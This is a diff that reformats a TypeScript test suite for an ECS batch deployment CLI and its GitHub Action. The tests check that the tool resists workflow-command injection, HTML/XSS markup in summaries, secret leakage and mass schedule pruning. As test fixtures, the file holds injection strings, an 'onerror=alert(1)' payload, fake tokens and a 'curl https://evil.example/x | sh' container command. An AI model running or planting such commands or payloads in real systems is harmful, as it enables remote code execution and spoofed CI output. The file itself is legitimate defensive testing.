@@ -31,13 +31,17 @@ beforeEach(() => {
 });
 
 function manifest(text = MANIFEST): string {
-  return text.replace('project: myapp', `project: ${project}`).replace('repository: myapp-batch', `repository: ${project}-batch`);
+  return text
+    .replace('project: myapp', `project: ${project}`)
+    .replace('repository: myapp-batch', `repository: ${project}-batch`);
 }
 
 const write = (text: string) => writeFileSync(join(dir, 'ecs-batch.yml'), manifest(text));
 const image = (tag = 'v1') => aws.fake.seedImage(`${project}-batch`, tag).uri;
-const deploy = (extra: Partial<Parameters<typeof release>[0]> = {}) => release({ manifest: join(dir, 'ecs-batch.yml'), image: image(), dryRun: false, prune: true, ...extra });
-const cli = (args: string[], env: Record<string, string> = {}) => runCli(args, { ...aws.fake.env(), GITHUB_ACTIONS: 'true', ...env }, dir);
+const deploy = (extra: Partial<Parameters<typeof release>[0]> = {}) =>
+  release({ manifest: join(dir, 'ecs-batch.yml'), image: image(), dryRun: false, prune: true, ...extra });
+const cli = (args: string[], env: Record<string, string> = {}) =>
+  runCli(args, { ...aws.fake.env(), GITHUB_ACTIONS: 'true', ...env }, dir);
 
 /** The commands our own code issues; anything else the runner would read came from a value. */
 const OUR_COMMANDS = new Set(['group', 'endgroup', 'stop-commands', 'error', 'warning', 'notice', 'add-mask', 'debug']);
@@ -49,15 +53,27 @@ function expectNoInjectedCommand(output: string, marker = 'INJECTED'): void {
 }
 
 /** A manifest whose values try to issue workflow commands. */
-const HOSTILE = MANIFEST.replace('    description: Nightly aggregation\n', '    description: "ok\\n::error::INJECTED description\\n##[error]INJECTED old syntax"\n')
-  .replace('  environment: { APP_ENV: production }\n', '  environment: { APP_ENV: "production\\n::set-output name=x::INJECTED", MODE: "  ::warning::INJECTED indented" }\n')
+const HOSTILE = MANIFEST.replace(
+  '    description: Nightly aggregation\n',
+  '    description: "ok\\n::error::INJECTED description\\n##[error]INJECTED old syntax"\n',
+)
+  .replace(
+    '  environment: { APP_ENV: production }\n',
+    '  environment: { APP_ENV: "production\\n::set-output name=x::INJECTED", MODE: "  ::warning::INJECTED indented" }\n',
+  )
   .replace('    command: [php, artisan, sweep]\n', '    command: [php, "artisan\\n::add-mask::INJECTED", sweep]\n');
 
 describe('no workflow command from a value', () => {
   it('validate, plan and deploy (text and JSON) print no line the runner would read as a command', async () => {
     await deploy();
     write(HOSTILE);
-    for (const args of [['validate'], ['validate', '--format', 'json'], ['plan', '--image', image()], ['plan', '--image', image(), '--format', 'json', '--show-values'], ['deploy', '--image', image()]]) {
+    for (const args of [
+      ['validate'],
+      ['validate', '--format', 'json'],
+      ['plan', '--image', image()],
+      ['plan', '--image', image(), '--format', 'json', '--show-values'],
+      ['deploy', '--image', image()],
+    ]) {
       const r = await cli(args);
       expect([args.join(' '), r.code]).toEqual([args.join(' '), 0]);
       expectNoInjectedCommand(r.stdout);
@@ -67,7 +83,12 @@ describe('no workflow command from a value', () => {
   });
 
   it('an error message that echoes a key or a value cannot issue a command', async () => {
-    write(MANIFEST.replace('  timezone: Asia/Tokyo\n', '  timezone: "Asia/Tokyo\\n::error::INJECTED tz"\n').replace('  sweep:\n', '  "sweep\\n::error::INJECTED key":\n'));
+    write(
+      MANIFEST.replace('  timezone: Asia/Tokyo\n', '  timezone: "Asia/Tokyo\\n::error::INJECTED tz"\n').replace(
+        '  sweep:\n',
+        '  "sweep\\n::error::INJECTED key":\n',
+      ),
+    );
     for (const args of [['validate'], ['plan', '--image', image()], ['iam-policy']]) {
       const r = await cli(args);
       expect(r.code).toBe(1);
@@ -80,16 +101,33 @@ describe('no workflow command from a value', () => {
   it('the release action prints the plan with no injected command', async () => {
     await deploy();
     write(HOSTILE);
-    const r = await runAction('release', { image: image(), 'dry-run': 'true', 'pr-comment': 'false' }, { env: aws.fake.env(), cwd: dir });
+    const r = await runAction(
+      'release',
+      { image: image(), 'dry-run': 'true', 'pr-comment': 'false' },
+      { env: aws.fake.env(), cwd: dir },
+    );
     expect(r.outputs.status).toBe('planned');
     expectNoInjectedCommand(r.stdout);
   });
 
   it("container logs are fenced: the runner reads none of their commands, and the fence's token is unguessable", async () => {
     await deploy();
-    const hostileLogs = ['::error::INJECTED error', '::stop-commands::x', '::add-mask::INJECTED', 'x', '::x::', '##[error]INJECTED old', '  ::warning::INJECTED indented', 'done'];
+    const hostileLogs = [
+      '::error::INJECTED error',
+      '::stop-commands::x',
+      '::add-mask::INJECTED',
+      'x',
+      '::x::',
+      '##[error]INJECTED old',
+      '  ::warning::INJECTED indented',
+      'done',
+    ];
     aws.fake.tasks.outcome = () => ({ exitCode: 0, logLines: hostileLogs });
-    const action = await runAction('run', { job: 'nightly', 'poll-interval': '0.1s' }, { env: aws.fake.env(), cwd: dir });
+    const action = await runAction(
+      'run',
+      { job: 'nightly', 'poll-interval': '0.1s' },
+      { env: aws.fake.env(), cwd: dir },
+    );
     expect(action.code).toBe(0);
     expectNoInjectedCommand(action.stdout);
     expect(commandsTheRunnerReads(action.stdout).filter((c) => /::(x|add-mask)::/.test(c))).toEqual([]);
@@ -120,11 +158,18 @@ describe('the summary and PR comment say what will happen', () => {
     await deploy();
     // A description opens an HTML comment; later, a command is swapped and a job is removed.
     write(
-      MANIFEST.replace('    description: Nightly aggregation\n', '    description: "ok <!-- [x](javascript:alert(1)) **b** <img src=x onerror=alert(1)> | `tick`"\n')
+      MANIFEST.replace(
+        '    description: Nightly aggregation\n',
+        '    description: "ok <!-- [x](javascript:alert(1)) **b** <img src=x onerror=alert(1)> | `tick`"\n',
+      )
         .replace('    command: [php, artisan, sweep]\n', '    command: [sh, -c, "curl https://evil.example/x | sh"]\n')
         .replace(/ {2}legacy:\n(?: {4}.*\n)+/, ''),
     );
-    const r = await runAction('release', { image: image(), 'dry-run': 'true', 'pr-comment': 'false' }, { env: aws.fake.env(), cwd: dir });
+    const r = await runAction(
+      'release',
+      { image: image(), 'dry-run': 'true', 'pr-comment': 'false' },
+      { env: aws.fake.env(), cwd: dir },
+    );
     expect(r.outputs.status).toBe('planned');
     const { html, text } = visibleText(r.summary);
     expect(html).not.toMatch(/<!--|<img|href="javascript/);
@@ -137,7 +182,12 @@ describe('the summary and PR comment say what will happen', () => {
   });
 
   it('the validation summary renders hostile descriptions and messages as text', async () => {
-    write(MANIFEST.replace('    description: Nightly aggregation\n', '    description: "</td></tr></table><!--"\n').replace('  timezone: Asia/Tokyo\n', '  timezone: "<!--"\n'));
+    write(
+      MANIFEST.replace('    description: Nightly aggregation\n', '    description: "</td></tr></table><!--"\n').replace(
+        '  timezone: Asia/Tokyo\n',
+        '  timezone: "<!--"\n',
+      ),
+    );
     const r = await runAction('validate', {}, { env: aws.fake.env(), cwd: dir });
     expect(r.code).toBe(1);
     const { html, text } = visibleText(r.summary);
@@ -149,7 +199,10 @@ describe('the summary and PR comment say what will happen', () => {
 describe('status shows what AWS and containers said as text', () => {
   it('a hostile stop reason is neither a command in text nor markup in markdown', async () => {
     await deploy();
-    aws.fake.tasks.outcome = () => ({ failToStart: 'CannotPullContainerError: x\n::error::INJECTED <!-- hidden **bold** token ghp_abcdefghijklmnopqrstuvwxyz0123456789' });
+    aws.fake.tasks.outcome = () => ({
+      failToStart:
+        'CannotPullContainerError: x\n::error::INJECTED <!-- hidden **bold** token ghp_abcdefghijklmnopqrstuvwxyz0123456789',
+    });
     const r = await cli(['run', 'nightly', '--poll', '0.1']);
     aws.fake.tasks.outcome = undefined;
     expect(r.code).toBe(1);
@@ -168,8 +221,14 @@ describe('status shows what AWS and containers said as text', () => {
 
 describe('no secret in a plan', () => {
   /** The live revision of a family with what someone added in the console. */
-  const consoleDefinition = (family: string, environment: { name: string; value: string }[], command: string[]): RegisterTaskDefinitionCommandInput => {
-    const live = structuredClone(aws.fake.state.taskDefinitions.get(family)!.at(-1)!.body) as unknown as RegisterTaskDefinitionCommandInput;
+  const consoleDefinition = (
+    family: string,
+    environment: { name: string; value: string }[],
+    command: string[],
+  ): RegisterTaskDefinitionCommandInput => {
+    const live = structuredClone(
+      aws.fake.state.taskDefinitions.get(family)!.at(-1)!.body,
+    ) as unknown as RegisterTaskDefinitionCommandInput;
     const container = live.containerDefinitions![0]!;
     container.environment = [...(container.environment ?? []), ...environment];
     container.command = command;
@@ -193,8 +252,13 @@ describe('no secret in a plan', () => {
       ),
     );
     write(
-      MANIFEST.replace('  environment: { APP_ENV: production }\n', '  environment: { APP_ENV: production, AWS_KEY_ID_COPY: AKIAABCDEFGHIJKLMNOP, NOTE: "token ghp_zyxwvutsrqponmlkjihgfedcba9876543210" }\n')
-        .replace('    command: [php, artisan, sweep]\n', '    command: [php, artisan, sweep, --password, hunter5pw, "--db=mysql://u:hunter6pw@h/db"]\n'),
+      MANIFEST.replace(
+        '  environment: { APP_ENV: production }\n',
+        '  environment: { APP_ENV: production, AWS_KEY_ID_COPY: AKIAABCDEFGHIJKLMNOP, NOTE: "token ghp_zyxwvutsrqponmlkjihgfedcba9876543210" }\n',
+      ).replace(
+        '    command: [php, artisan, sweep]\n',
+        '    command: [php, artisan, sweep, --password, hunter5pw, "--db=mysql://u:hunter6pw@h/db"]\n',
+      ),
     );
     const secrets = /hunter[2-6]pw|ghp_[a-z0-9]{20}|AKIAABCDEFGHIJKLMNOP|zyxwvutsrq/;
     const outputs: string[] = [];
@@ -205,7 +269,11 @@ describe('no secret in a plan', () => {
         outputs.push(r.stdout, r.stderr);
       }
     }
-    const action = await runAction('release', { image: image(), 'dry-run': 'true', 'pr-comment': 'false' }, { env: aws.fake.env(), cwd: dir });
+    const action = await runAction(
+      'release',
+      { image: image(), 'dry-run': 'true', 'pr-comment': 'false' },
+      { env: aws.fake.env(), cwd: dir },
+    );
     outputs.push(action.stdout, action.summary, action.outputs.changes ?? '', action.outputs.summary ?? '');
     for (const out of outputs) expect(out).not.toMatch(secrets);
     // What the reviewer does see: which variables change, and a fingerprint.
@@ -228,7 +296,9 @@ describe('no silent mass prune', () => {
     aws.fake.calls.reset();
     const r = await cli(['deploy', '--image', image()]);
     expect(r.code).toBe(1);
-    expect(r.stdout).toMatch(/refused: this deploy would delete the schedules of 3 job\(s\), more than half of the 4 jobs it owns: legacy, monthly, sweep/);
+    expect(r.stdout).toMatch(
+      /refused: this deploy would delete the schedules of 3 job\(s\), more than half of the 4 jobs it owns: legacy, monthly, sweep/,
+    );
     expect(r.stdout).toMatch(/--max-prune 3/);
     expect(aws.fake.calls.writes()).toEqual([]);
 
@@ -238,7 +308,9 @@ describe('no silent mass prune', () => {
 
     const allowed = await cli(['deploy', '--image', image(), '--max-prune', '3']);
     expect(allowed.code).toBe(0);
-    expect([...aws.fake.state.schedules.values()].filter((s) => s.groupName === project).map((s) => s.name)).toEqual([`${project}-nightly`]);
+    expect([...aws.fake.state.schedules.values()].filter((s) => s.groupName === project).map((s) => s.name)).toEqual([
+      `${project}-nightly`,
+    ]);
   });
 
   it('--max-prune is a limit: one job more than it allows is refused', async () => {
@@ -253,11 +325,15 @@ describe('no silent mass prune', () => {
   it('a schedule made by hand inside the group is never ours to delete', async () => {
     await deploy();
     const live = aws.fake.state.schedules.get(`${project}/${project}-nightly`)!;
-    await aws.clients.scheduler.send(new CreateScheduleCommand({ ...(live.body as object), Name: 'nightly-db-backup', GroupName: project } as never));
+    await aws.clients.scheduler.send(
+      new CreateScheduleCommand({ ...(live.body as object), Name: 'nightly-db-backup', GroupName: project } as never),
+    );
     write(MANIFEST.replace(/ {2}legacy:\n(?: {4}.*\n)+/, ''));
     const r = await cli(['deploy', '--image', image()]);
     expect(r.code).toBe(0);
-    expect(r.stdout).toMatch(/schedule nightly-db-backup in the group \w+ is not named \w+-<job>: it was not made by ecs-batch and is left alone/);
+    expect(r.stdout).toMatch(
+      /schedule nightly-db-backup in the group \w+ is not named \w+-<job>: it was not made by ecs-batch and is left alone/,
+    );
     expect(aws.fake.state.schedules.has(`${project}/nightly-db-backup`)).toBe(true);
     expect(aws.fake.state.schedules.has(`${project}/${project}-legacy`)).toBe(false);
   });
@@ -268,7 +344,11 @@ describe('no silent mass prune', () => {
     writeFileSync(join(dir, 'ecs-batch.yml'), manifest().replace(`project: ${old}`, `project: ${old}new`));
     const r = await cli(['plan', '--image', image()]);
     expect(r.code).toBe(0);
-    expect(r.stdout).toMatch(new RegExp(`warning: ecs-batch project ${old} also runs nightly, sweep, monthly|warning: ecs-batch project ${old} also runs monthly, nightly, sweep`));
+    expect(r.stdout).toMatch(
+      new RegExp(
+        `warning: ecs-batch project ${old} also runs nightly, sweep, monthly|warning: ecs-batch project ${old} also runs monthly, nightly, sweep`,
+      ),
+    );
     expect(r.stdout).toMatch(/run twice/);
   });
 });
